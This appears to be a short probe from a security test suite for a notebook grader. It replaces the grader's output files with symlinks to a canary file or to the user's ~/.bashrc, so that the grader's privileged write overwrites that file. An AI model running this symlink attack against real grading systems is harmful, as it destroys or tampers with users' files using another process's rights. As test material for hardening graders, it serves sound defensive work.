# Leaves a link under the notebook's own name: whoever writes the graded notebook there writes
# through it, with the grader's rights.
# Success: the file behind it is another one.
# %% last
import os

victim = GIVEN.get("canary") or os.path.expanduser("~/.bashrc")
for name in ("target.ipynb", "target.html", "timestamp.txt"):
    attempt(os.remove, name)
    attempt(os.symlink, victim, name)
